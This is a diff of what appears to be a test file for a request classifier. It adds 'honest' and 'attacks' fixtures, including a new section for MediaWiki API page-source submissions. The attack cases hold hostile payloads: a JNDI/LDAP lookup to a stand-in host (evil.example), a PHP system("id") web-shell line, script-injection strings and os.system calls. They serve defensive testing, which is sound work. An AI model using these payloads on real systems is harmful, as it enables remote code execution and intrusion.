@@ -411,11 +411,13 @@ const KINDS: HonestKinds = {
       sent(notebook({ data: { 'text/html': ['<div id="p"></div>', '<script>draw("p")</script>'] } })),
       sent(notebook({ name: 'stdout', text: ["eval('1+1'); exec('x = 2')\n", 'ok\n'] })),
       sent(notebook({ evalue: "c.execute(\"SELECT 1 UNION SELECT 2 WHERE '1'='1'\")" })),
+      sent(notebook({ name: 'stderr', text: '<html><script>track()</script></html>' })),
       sent(notebook({ traceback: ['os.system(cmd)', "subprocess.check_output('id', shell=True)"] })),
     ],
     attacks: [
       sent(notebook({ data: { id: "os.system('ls -la /tmp')" } })),
       sent(notebook({ data: { 'text/plain': '$' + '{jndi:ldap://evil.example/a}' } })),
+      sent({ outputs: [{ text: '<html><script>track()</script></html>' }] }),
       sent(notebook({ metadata: { 'text/html': '<script>alert(1)</script>' } })),
       sent({ outputs: [{ data: { 'text/html': '<script>alert(1)</script>' } }] }),
       sent({ data: { 'text/plain': "os.system('ls -la /tmp')" } }),
@@ -482,6 +484,17 @@ const KINDS: HonestKinds = {
       filled({ text: ARTICLE }),
       filled({ wikitext: '<?php system("id"); ?>' }),
       asked('/s', { wikitext: ARTICLE }),
+    ],
+  },
+  'the source of a page that the interface of MediaWiki takes': {
+    honest: ['/api.php', '/w/api.php'].map(path => filled({ action: 'stashedit', text: ARTICLE }, path)),
+    attacks: [
+      filled({ text: [ARTICLE, '{jndi:ldap://evil.example/a}'].join('$') }, '/api.php'),
+      filled({ text: '<?php system("id"); ?>' }, '/api.php'),
+      filled({ title: ARTICLE }, '/api.php'),
+      filled({ text: ARTICLE }, '/shop/v1/api.php'),
+      filled({ text: ARTICLE }, '/api.php/x'),
+      asked('/api.php', { text: ARTICLE }),
     ],
   },
   'a mail as a body': {
